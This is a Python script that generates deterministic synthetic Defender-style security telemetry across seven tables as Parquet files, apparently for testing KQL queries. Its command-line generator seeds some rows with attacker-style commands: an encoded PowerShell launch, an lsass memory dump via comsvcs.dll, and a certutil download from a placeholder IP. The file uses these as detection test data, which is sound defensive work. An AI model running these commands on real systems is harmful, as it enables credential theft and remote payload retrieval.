"""Makes rows of seven Defender tables, the same ones every time, as Parquet files with the engine's own generator.

Each file has the natural types (TIMESTAMP, VARCHAR with NULL for what is missing); `sally kql` imports them as a user's files.
"""
import pathlib

# Shares of the rows by table.
SHARES = {
    "DeviceProcessEvents": 0.30, "DeviceNetworkEvents": 0.30, "DeviceFileEvents": 0.15, "DeviceRegistryEvents": 0.05,
    "DeviceLogonEvents": 0.05, "DeviceEvents": 0.10, "EmailEvents": 0.05,
}
# The last row's time; queries run with this as now().
NOW = "2026-01-31T00:00:00Z"

NUMBER = "(hash(i, {seed}) % {size})::BIGINT"


def pick(seed, values):
    listed = ", ".join(f"'{value}'" for value in values)
    return f"list_value({listed})[1 + {NUMBER.format(seed=seed, size=len(values))}]"


def number(seed, size):
    return NUMBER.format(seed=seed, size=size)


IMAGES = [
    "svchost.exe", "chrome.exe", "msedge.exe", "powershell.exe", "cmd.exe", "conhost.exe", "rundll32.exe", "explorer.exe",
    "OUTLOOK.EXE", "Teams.exe", "MsMpEng.exe", "taskhostw.exe", "wmiprvse.exe", "backgroundTaskHost.exe", "SearchIndexer.exe",
    "dllhost.exe", "regsvr32.exe", "WINWORD.EXE", "python.exe", "git.exe",
]
COMMON = f"""
    TIMESTAMP '2026-01-01' + to_microseconds((i * 2592000000000 // {{rows}})::BIGINT) AS "Timestamp",
    md5('device' || {number(1, 5000)}) AS "DeviceId",
    'ws-' || lpad({number(1, 5000)}::VARCHAR, 4, '0') || '.copperfield.example' AS "DeviceName",
    i AS "ReportId"
"""
ACCOUNT = f"'user' || {number(2, 8000)}"
COMMAND = f"""
    CASE {number(3, 1000)}
      WHEN 0 THEN 'powershell.exe -NoProfile -EncodedCommand ' || upper(md5('e' || i))
      WHEN 1 THEN 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ' || i || ' C:\\Temp\\lsass.dmp full'
      WHEN 2 THEN 'cmd.exe /c certutil -urlcache -split -f http://203.0.113.' || {number(4, 250)} || '/a.txt'
      ELSE '"C:\\Program Files\\Vendor ' || {number(5, 300)} || '\\App' || {number(6, 900)} || '\\' || {pick(7, IMAGES)} || '" --type=' ||
        {pick(8, ['renderer', 'utility', 'gpu-process', 'broker', 'crashpad'])} || ' --id=' || md5('c' || {number(9, 200000)}) || ' /prefetch:' || {number(10, 9)}
    END"""
FIELDS = f"""
    '{{{{"Session":' || {number(11, 9)} || ',"Actor":{{{{"Name":"user' || {number(2, 8000)} || '","Risk":{{{{"Level":"' || {pick(12, ['low', 'medium', 'high'])} ||
    '","Score":' || {number(13, 100)} || '}}}}}}}},"Tags":["t' || {number(14, 40)} || '","t' || {number(15, 40)} || '"]}}}}'"""

COLUMNS = {
    "DeviceProcessEvents": f"""{COMMON}, 'ProcessCreated' AS "ActionType", {pick(7, IMAGES)} AS "FileName",
        'C:\\Program Files\\Vendor ' || {number(5, 300)} AS "FolderPath", sha1('f' || {number(16, 20000)}) AS "SHA1",
        sha256('f' || {number(16, 20000)}) AS "SHA256", {COMMAND} AS "ProcessCommandLine", {number(17, 60000)} AS "ProcessId",
        {ACCOUNT} AS "AccountName", {pick(18, IMAGES)} AS "InitiatingProcessFileName", {number(19, 60000)} AS "InitiatingProcessId",
        {FIELDS} AS "AdditionalFields" """,
    "DeviceNetworkEvents": f"""{COMMON}, {pick(20, ['ConnectionSuccess', 'ConnectionFailed', 'ConnectionRequest'])} AS "ActionType",
        '10.' || {number(21, 200)} || '.' || {number(22, 250)} || '.' || {number(23, 250)} AS "LocalIP",
        {number(24, 223)} || '.' || {number(25, 250)} || '.' || {number(26, 250)} || '.7' AS "RemoteIP",
        list_value(443, 80, 53, 445, 3389, 8443)[1 + {number(27, 6)}]::INTEGER AS "RemotePort",
        CASE WHEN {number(28, 3)} = 0 THEN NULL ELSE 'https://cdn' || {number(29, 5000)} || '.site' || {number(30, 800)} || '.example/p/' || {number(31, 9000)} END AS "RemoteUrl",
        {pick(18, IMAGES)} AS "InitiatingProcessFileName", {number(17, 60000)} AS "InitiatingProcessId",
        {COMMAND} AS "InitiatingProcessCommandLine" """,
    "DeviceFileEvents": f"""{COMMON}, {pick(32, ['FileCreated', 'FileModified', 'FileRenamed', 'FileDeleted'])} AS "ActionType",
        'file' || {number(33, 90000)} || '.' || {pick(34, ['dll', 'exe', 'docx', 'tmp', 'log', 'ps1', 'zip'])} AS "FileName",
        'C:\\Users\\user' || {number(2, 8000)} || '\\AppData\\Local\\d' || {number(35, 500)} AS "FolderPath",
        sha1('f' || {number(36, 20000)}) AS "SHA1", sha256('f' || {number(36, 20000)}) AS "SHA256", {number(37, 9000000)} AS "FileSize",
        {pick(18, IMAGES)} AS "InitiatingProcessFileName" """,
    "DeviceRegistryEvents": f"""{COMMON}, {pick(38, ['RegistryValueSet', 'RegistryKeyCreated'])} AS "ActionType",
        'HKEY_LOCAL_MACHINE\\SOFTWARE\\Vendor' || {number(39, 700)} || '\\' || {pick(40, ['Run', 'RunOnce', 'Settings', 'Policies'])} AS "RegistryKey",
        'v' || {number(41, 3000)} AS "RegistryValueName", 'C:\\p' || {number(42, 900)} || '.exe' AS "RegistryValueData" """,
    "DeviceLogonEvents": f"""{COMMON}, {pick(43, ['LogonSuccess', 'LogonSuccess', 'LogonSuccess', 'LogonFailed'])} AS "ActionType",
        {pick(44, ['Interactive', 'Network', 'RemoteInteractive', 'Batch'])} AS "LogonType", {ACCOUNT} AS "AccountName",
        '10.' || {number(21, 200)} || '.' || {number(22, 250)} || '.' || {number(23, 250)} AS "RemoteIP" """,
    "DeviceEvents": f"""{COMMON}, {pick(45, ['AmsiScriptContent', 'PowerShellCommand', 'NamedPipeEvent', 'DnsQueryResponse', 'UsbDriveMounted'])} AS "ActionType",
        {ACCOUNT} AS "AccountName", {pick(18, IMAGES)} AS "InitiatingProcessFileName", {FIELDS} AS "AdditionalFields" """,
    "EmailEvents": f"""TIMESTAMP '2026-01-01' + to_microseconds((i * 2592000000000 // {{rows}})::BIGINT) AS "Timestamp",
        md5('m' || i) AS "NetworkMessageId", 's' || {number(46, 20000)} || '@d' || {number(47, 600)} || '.example' AS "SenderFromAddress",
        'd' || {number(47, 600)} || '.example' AS "SenderFromDomain", 'user' || {number(2, 8000)} || '@copperfield.example' AS "RecipientEmailAddress",
        'Invoice ' || {number(48, 100000)} || ' for ' || {pick(49, ['you', 'review', 'payment', 'signature'])} AS "Subject",
        {pick(50, ['Delivered', 'Junked', 'Blocked'])} AS "DeliveryAction", 'm' || i AS "ReportId" """,
}


def make(connection, folder, rows):
    """Writes one Parquet file a table; the number of rows is that of all tables together."""
    folder = pathlib.Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for table, share in SHARES.items():
        count = int(rows * share)
        columns = COLUMNS[table].format(rows=count)
        connection.execute(
            f"COPY (SELECT {columns} FROM range({count}) r(i)) TO '{folder / table}.parquet' "
            "(FORMAT parquet, COMPRESSION zstd, ROW_GROUP_SIZE 61440)"
        )
    return folder
